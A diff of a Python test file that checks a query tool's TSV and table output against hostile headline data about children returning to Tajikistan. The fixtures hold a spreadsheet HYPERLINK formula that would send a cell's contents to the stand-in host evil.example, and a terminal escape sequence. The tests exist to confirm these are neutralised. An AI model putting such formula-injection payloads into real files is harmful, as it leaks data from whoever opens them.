@@ -173,7 +173,8 @@ def test_query_tsv_literals_that_a_spreadsheet_would_run_get_a_quote_inside_thei
     lines = run_query(hostile_store, SPEAKER, "--format", "tsv").splitlines()
     label, quote, start = lines[1].split("\t")
     assert label == '"\'=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"'
-    assert quote.startswith('"\'=HYPERLINK(') and start.startswith('"33"^^') or start == "33"
+    assert quote == label[:-1] + ' On April 30, Tajikistan repatriated 84 minors from Iraq"'
+    assert start == '"33"^^<http://www.w3.org/2001/XMLSchema#integer>'
 
 
 def test_query_json_keeps_the_text_exact(hostile_store):
@@ -188,5 +189,8 @@ def test_negative_numbers_in_query_csv_stay_numbers(hostile_store):
 
 def test_control_characters_in_a_title_are_escaped_in_the_table(hostile_store):
     table = run_query(hostile_store, "SELECT ?title WHERE { ?a schema:headline ?title } ORDER BY ?title")
-    assert table.splitlines()[2:4] == ["Children return to Tajikistan", "Tajikistan brings children home\\x1b]0;pwned\\x07"]
+    assert table.splitlines()[2:4] == [
+        "Children return to Tajikistan",
+        "Tajikistan brings children home\\x1b]0;pwned\\x07",
+    ]
     assert "\x1b" not in table and "\x07" not in table
